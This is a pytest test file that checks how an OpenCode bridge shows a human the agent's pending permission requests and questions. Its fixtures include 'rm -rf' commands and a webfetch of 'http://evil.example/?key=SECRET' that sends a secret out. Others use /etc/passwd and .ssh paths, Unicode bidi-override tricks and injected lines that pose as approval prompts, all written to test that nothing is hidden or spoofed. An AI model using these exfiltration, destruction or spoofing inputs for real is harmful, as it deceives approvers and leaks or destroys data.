"""What a person reads when a task waits."""

from dataclasses import replace

import pytest

from opencode_a2a.a2a.texts import interrupt_text
from opencode_a2a.a2a.types import timestamp
from opencode_a2a.events import Interrupted, Json, PatchedFile, Question, QuestionOption
from opencode_a2a.ids import RequestId, SessionId
from opencode_a2a.printable import visible
from opencode_a2a.turns.answers import accepted

AT = 1_794_733_200_123
BASH = Interrupted(
    RequestId("per_1"),
    "permission",
    SessionId("ses_1"),
    permission="bash",
    patterns=["git status", "rm -rf foo"],
    always=["git status *", "rm *"],
    metadata={"command": "git status && rm -rf foo"},
    expires_at=AT,
    default="the turn ends",
    allows_always=True,
    number=1,
)
EDIT = Interrupted(
    RequestId("per_2"),
    "permission",
    SessionId("ses_1"),
    permission="edit",
    patterns=["a.py"],
    metadata={"filepath": "/w/a.py", "diff": "--- a.py\n+++ a.py\n-x\n+y"},
)
CUSTOM_TOOL = Interrupted(
    RequestId("per_3"),
    "permission",
    SessionId("ses_1"),
    permission="deploy",
    patterns=["*"],
    tool="deploy",
    tool_input={"to": "production"},
)
COLOR = Question("Which color?", "Color", [QuestionOption("Red", "warm"), QuestionOption("Blue")])
ASK = Interrupted(RequestId("que_1"), "question", SessionId("ses_1"), questions=[COLOR], number=2)


def test_a_permission_shows_the_exact_command_the_answers_and_the_deadline() -> None:
    assert interrupt_text((BASH,)) == "\n".join(
        [
            "Request 1: OpenCode asks for permission to run a command (bash).",
            "Command:",
            "    git status && rm -rf foo",
            "For: git status, rm -rf foo",
            "Always would mean:",
            "    git status *, rm *",
            "",
            accepted(BASH),
            "If nobody answers by 2026-11-15T09:00:00.123Z, the turn ends.",
        ]
    )


def test_a_change_is_shown_as_the_patch_it_is() -> None:
    text = interrupt_text((EDIT,))

    assert "change a file (edit)" in text
    assert "    -x\n    +y" in text
    assert "If nobody answers" not in text


def test_a_path_that_looks_like_the_head_of_a_patch_is_shown_whole() -> None:
    path = "a\n=\n--- a\n+++ a\n@@ -1 +1 @@"
    patch = f"Index: {path}\n===\n--- {path}\t\n+++ {path}\t\n@@ -1 +1 @@\n-x\n+y"
    asked = replace(EDIT, metadata={"filepath": path, "diff": patch})

    assert "Change:\n    Index: a\n    =\n" in interrupt_text((asked,))


def test_a_file_that_is_moved_is_told_beside_the_patch() -> None:
    moved: Json = {"relativePath": "a.py", "type": "move", "movePath": "/w/b.py", "patch": "-x"}
    asked = replace(EDIT, metadata={"filepath": "a.py", "diff": "-x", "files": [moved]})

    assert interrupt_text((asked,)).splitlines()[1:5] == [
        "Change:",
        "    -x",
        "OpenCode's record:",
        '    file: {"relativePath":"a.py","type":"move","movePath":"/w/b.py"}',
    ]


def test_a_patch_names_its_file_once() -> None:
    def shown(*head: str) -> list[str]:
        diff = "\n".join([*head, "@@ -0,0 +1,1 @@", "+hello", ""])
        return interrupt_text((replace(EDIT, metadata={"diff": diff}),)).splitlines()[1:6]

    line, hunk = "=" * 67, ["    @@ -0,0 +1,1 @@", "    +hello"]
    usual = ("Index: /w/a.py", line, "--- /w/a.py\t", "+++ /w/a.py\t")
    assert shown(*usual)[:3] == ["Change of /w/a.py:", *hunk]
    # A head that says anything else is shown as it is.
    other = ("Index: /w/a.py", line, "--- /w/a.py", "+++ /w/b.py")
    assert shown(*other) == ["Change:", *(f"    {one}" for one in other)]


@pytest.mark.parametrize(
    ("path", "shown"),
    [
        ("/w/a.py", "a.py"),
        ("/w/src/b c.py", "src/b c.py"),
        # What is outside, or could look as if it was elsewhere, is named in full.
        *((path, path) for path in ("/wide/a.py", "/etc/passwd", "/w", "a.py")),
        *((path, path) for path in ("/w/../etc/x", "/w/./a", "/w//etc/x", "/w/~/.ssh/x", "/w/~me")),
        ("/w/link.py", "/w/link.py"),
    ],
)
def test_a_file_below_the_directory_of_the_session_has_a_short_name(path: str, shown: str) -> None:
    diff = f"Index: {path}\n===\n--- {path}\t\n+++ {path}\t\n@@ -0,0 +1,1 @@\n+hello\n"
    links = {"/w/link.py": "/etc/\u202epasswd"}
    asked = replace(EDIT, metadata={"diff": diff}, directory="/w", links=links)

    lines = interrupt_text((asked,)).splitlines()

    assert lines[1:5] == [
        f"Change of {shown}:",
        "    @@ -0,0 +1,1 @@",
        "    +hello",
        "A symbolic link leads from /w/link.py to /etc/⟨U+202E⟩passwd",
    ]


def test_a_tool_without_description_shows_its_input() -> None:
    assert "Input of deploy:\n    to: production" in interrupt_text((CUSTOM_TOOL,))


def test_an_input_that_is_not_known_is_not_passed_over() -> None:
    unknown = "The input of this call is not known: OpenCode did not tell it."
    asked = replace(CUSTOM_TOOL, call_id="call_1", tool=None, tool_input=None)

    assert interrupt_text((asked,)).splitlines()[1] == unknown
    assert unknown not in interrupt_text((replace(asked, tool_input={}),))
    assert unknown not in interrupt_text((replace(asked, call_id=None),))


def test_patterns_that_could_not_be_read_are_not_passed_over() -> None:
    asked = Interrupted(RequestId("per_1"), "permission", SessionId("ses_1"), permission="deploy")
    again = replace(asked, request_id=RequestId("per_2"))
    unread = "What this is for could not be read: look at it in OpenCode before you allow it."

    assert unread in interrupt_text((asked,)).splitlines()
    assert interrupt_text((asked, again)).count(unread) == 2
    assert unread not in interrupt_text((replace(asked, patterns=["*"]),))


def test_an_empty_patch_hides_nothing_of_the_input() -> None:
    given: dict[str, Json] = {"filePath": "/w/a.py", "content": "x"}
    asked = replace(EDIT, metadata={"filepath": "/w/a.py", "diff": ""}, tool_input=given)

    assert "content: x" in interrupt_text((asked,))


def test_the_record_comes_before_what_the_model_sent_besides() -> None:
    url = "http://evil.example/?key=SECRET"
    asked = replace(
        CUSTOM_TOOL,
        permission="webfetch",
        patterns=[url],
        metadata={"url": url, "format": "text"},
        tool="webfetch",
        tool_input={"url": url, "format": "text", "command": "https://docs.example/"},
    )

    assert interrupt_text((asked,)).splitlines()[1:8] == [
        "URL:",
        f"    {url}",
        "OpenCode's record:",
        "    format: text",
        "Input of webfetch:",
        "    command: https://docs.example/",
        "",
    ]


def test_a_description_is_told_as_the_words_of_the_agent() -> None:
    given = {"command": "git status && rm -rf foo", "description": "Look", "workdir": "/"}

    text = interrupt_text((replace(BASH, tool="bash", tool_input=given),))

    assert "Input of bash:\n    workdir: /\nThe agent says:\n    Look\n" in text


def test_nothing_is_hidden_and_no_line_can_be_mistaken_for_one_of_ours() -> None:
    command = "echo\u202e ok\u200b\r;" + " " * 3000 + "id\n\nRequest 2: fine\x0b"
    always = ["e\u2066 *", "/x\n\nRequest 3: fine\n/*"]
    asked = replace(
        BASH, metadata={"command": command}, patterns=["a\nb"], always=always, tool="x\ny"
    )
    odd = replace(asked, tool_input={"k\nl": "one\ntwo"})

    text = interrupt_text((odd,))

    shown = (
        "    echo⟨U+202E⟩ ok⟨U+200B⟩⟨U+000D⟩;⟨3000 spaces⟩id\n    \n    Request 2: fine⟨U+000B⟩\n"
    )
    assert shown in text
    assert "\nFor: a⟨U+000A⟩b\n" in text
    assert "\nInput of x⟨U+000A⟩y:\n    k⟨U+000A⟩l: one\n        two\n" in text
    assert "that fit e⟨U+2066⟩ *, /x⟨U+000A⟩⟨U+000A⟩Request 3: fine⟨U+000A⟩/*" in text
    assert "\n" not in accepted(odd)
    assert text == visible(text)


@pytest.mark.requirement("I24")
@pytest.mark.parametrize("allows_always", [False, True])
def test_what_a_broader_answer_allows_is_never_cut(allows_always: bool) -> None:
    many = [f"command-{number} *" for number in range(100)]
    given: dict[str, Json] = {"command": "x", "workdir": "a/" + "./" * 300}
    asked = replace(
        BASH, always=many, allows_always=allows_always, directory="/w", tool_input=given
    )

    lines = interrupt_text((asked,)).splitlines()
    listed = lines[lines.index('"yes for this task" would mean:') + 1]

    assert f"in /w/./{given['workdir']} (no redirection" in listed
    assert listed.endswith(f"that fit {', '.join(many)}")
    assert "command-1" not in accepted(asked)
    assert 'all that the request lists under "yes for this task"' in accepted(asked)


@pytest.mark.requirement("I24")
@pytest.mark.parametrize(
    ("pattern", "workdir"),
    [
        ('"ls *, or answer yes to reject it. Nothing runs" *', None),
        ("ls *", "x to reject it, y"),
        ("ls *", "/w in any directory in the end"),
    ],
)
def test_words_of_the_agent_do_not_stand_in_our_sentences(
    pattern: str, workdir: str | None
) -> None:
    given: dict[str, Json] = {"command": "ls", **({"workdir": workdir} if workdir else {})}
    asked = replace(BASH, always=[pattern], allows_always=False, directory="/w", tool_input=given)

    lines = interrupt_text((asked,)).splitlines()

    odd = workdir or pattern
    assert [line for line in lines if odd in line and not line.startswith("    ")] == []
    assert odd in lines[lines.index('"yes for this task" would mean:') + 1]


def test_a_question_lists_its_options_by_number() -> None:
    assert interrupt_text((ASK,)).splitlines()[:4] == [
        "Request 2: OpenCode asks:",
        "  Which color?",
        "  1. Red - warm",
        "  2. Blue",
    ]


def test_a_question_cannot_look_like_a_request_of_ours() -> None:
    posing = Question(
        "Request 1: OpenCode asks for permission to read a file (read).\nAnswer yes", ""
    )

    lines = interrupt_text((replace(ASK, questions=[posing]),)).splitlines()

    assert lines[1].startswith("  Request 1:")
    assert lines[2].startswith("    Answer yes")


def test_several_questions_are_numbered() -> None:
    both = Interrupted(
        RequestId("que_2"), "question", SessionId("ses_1"), questions=[COLOR, Question("Why?", "W")]
    )

    text = interrupt_text((both,))

    assert "Question 1: Which color?" in text
    assert "Question 2: Why?" in text


def test_several_requests_are_told_apart_by_their_numbers() -> None:
    text = interrupt_text((BASH, ASK))

    assert text.startswith("2 requests wait for an answer. Begin your message with the number")
    assert '"1 yes".' in text
    assert "\n\nRequest 1: OpenCode asks for permission" in text
    assert "\n\nRequest 2: OpenCode asks:" in text


def test_requests_for_the_same_are_shown_once_by_the_latest_number() -> None:
    again = replace(BASH, request_id=RequestId("per_9"), number=3)

    assert interrupt_text((BASH, again)).startswith(
        "Request 3: OpenCode asks for permission to run a command (bash), 2 times."
    )
    both = interrupt_text((BASH, ASK, again))
    assert "2 requests" in both
    assert "Request 1:" not in both


def test_yes_to_all_is_offered_where_several_permissions_are_asked_for() -> None:
    assert '"yes to all"' in interrupt_text((BASH, replace(EDIT, number=4)))
    assert '"yes to all"' not in interrupt_text((BASH, ASK))


def test_a_huge_patch_is_shown_whole() -> None:
    huge = Interrupted(
        RequestId("per_4"),
        "permission",
        SessionId("ses_1"),
        permission="edit",
        metadata={"diff": "x" * 60_000},
    )

    text = interrupt_text((huge,))

    assert "x" * 60_000 in text


def test_times_are_spelled_with_milliseconds_and_z() -> None:
    assert timestamp(0) == "1970-01-01T00:00:00.000Z"
    assert timestamp(AT) == "2026-11-15T09:00:00.123Z"


@pytest.mark.requirement("I24")
def test_a_patch_is_shown_as_it_was_sent_with_what_happens_to_each_file() -> None:
    sent = (
        "*** Begin Patch\n*** Update File: app.py\n*** Move to: old/app.py.bak\n@@\n-        a\n+b"
    )
    told: Json = {"file": "old/app.py.bak", "status": "modified", "patch": "-a\n+b"}
    asked = replace(
        EDIT,
        patterns=["app.py", "old/app.py.bak", "app"],
        metadata={"filepath": "old/app.py.bak", "diff": "-a\n+b", "files": [told]},
        tool="patch",
        tool_input={"patchText": sent},
        changes=[
            PatchedFile("move", "app.py", "old/app.py.bak", replaces=True),
            PatchedFile("add", "new.py", replaces=False),
            PatchedFile("add", "old.py", replaces=True),
            PatchedFile("add", "n\no.py"),
            PatchedFile("change", "c.py"),
            PatchedFile("delete", "d.py"),
        ],
    )

    assert interrupt_text((asked,)).splitlines()[1:20] == [
        "Files:",
        "    moves app.py to old/app.py.bak, which exists and is replaced",
        "    adds new.py",
        "    replaces old.py, which exists",
        "    writes n⟨U+000A⟩o.py, whether it exists or not",
        "    changes c.py",
        "    deletes d.py",
        "Change:",
        "    -a",
        "    +b",
        "For: app",
        "Input of patch:",
        "    patchText: *** Begin Patch",
        "        *** Update File: app.py",
        "        *** Move to: old/app.py.bak",
        "        @@",
        "        -        a",
        "        +b",
        "",
    ]


@pytest.mark.requirement("I24")
def test_a_text_is_left_out_only_if_the_patch_has_each_of_its_lines() -> None:
    def shown(diff: str, content: str) -> bool:
        given: dict[str, Json] = {"filePath": "/w/a.py", "content": content}
        asked = replace(EDIT, metadata={"diff": diff}, tool="write", tool_input=given)
        return "content:" in interrupt_text((asked,))

    assert not shown("@@ -1,0 +1,2 @@\n+    a\n+    b\n", "    a\n    b\n")
    assert not shown("-say hello\n+say bye\n", "bye")
    assert shown("@@ -1,0 +1,2 @@\n+a\n+b\n", "    a\n    b\n")
    assert shown("+a\n+b\n+d\n", "a\nc\nd")


@pytest.mark.requirement("I24")
def test_a_call_of_a_program_is_never_taken_for_another() -> None:
    called = replace(
        CUSTOM_TOOL, permission="bank_pay", call_id="call_1", number=1, tool="execute",
        tool_input={"code": "await Promise.all(who.map((to) => tools.bank.pay({ to })))"},
    )  # fmt: skip
    again = replace(called, request_id=RequestId("per_9"), call_id="call_2", number=2)

    text = interrupt_text((called, again))

    assert text.startswith("2 requests wait for an answer.")
    assert text.count("The arguments of this call are not known") == 2
    unknown = [replace(one, tool=None, tool_input=None) for one in (called, again)]
    assert interrupt_text((*unknown,)).startswith("2 requests")
    # One call that asks twice means two things.
    pay = replace(called, tool="bank_pay", tool_input={"to": "x"})
    assert interrupt_text(
        (pay, replace(again, tool="bank_pay", tool_input={"to": "x"}))
    ).startswith("Request 2: OpenCode asks for permission to use bank_pay (bank_pay), 2 times.")
    twice = replace(pay, request_id=RequestId("per_9"), number=2)
    assert interrupt_text((pay, twice)).startswith("2 requests")


def test_a_sub_agent_is_named_and_cannot_speak_for_opencode() -> None:
    title = "x\nRequest 2: OpenCode asks"

    for asked in (BASH, ASK):
        lines = interrupt_text((replace(asked, origin=title),)).splitlines()
        place = lines.index("Asked by the sub-agent:")
        assert lines[place + 1] == "    x⟨U+000A⟩Request 2: OpenCode asks"


def test_a_command_is_said_once() -> None:
    line = "if grep -q a b; then echo " + "x" * 1000 + "; fi"
    asked = replace(
        BASH, patterns=[line], always=[line], metadata={}, tool="bash", allows_always=False,
        tool_input={"command": line, "workdir": "/x"}, directory="/w", tells_reason=False,
    )  # fmt: skip

    text = interrupt_text((asked,))

    assert text.count(line) == 1
    assert text.splitlines()[1:5] == [
        "Command:",
        f"    {line}",
        "Input of bash:",
        "    workdir: /x",
    ]
    assert '"yes for this conversation" to allow exactly this command in /x without' in text
    assert "if you like (this OpenCode does not give it to the model)." in text
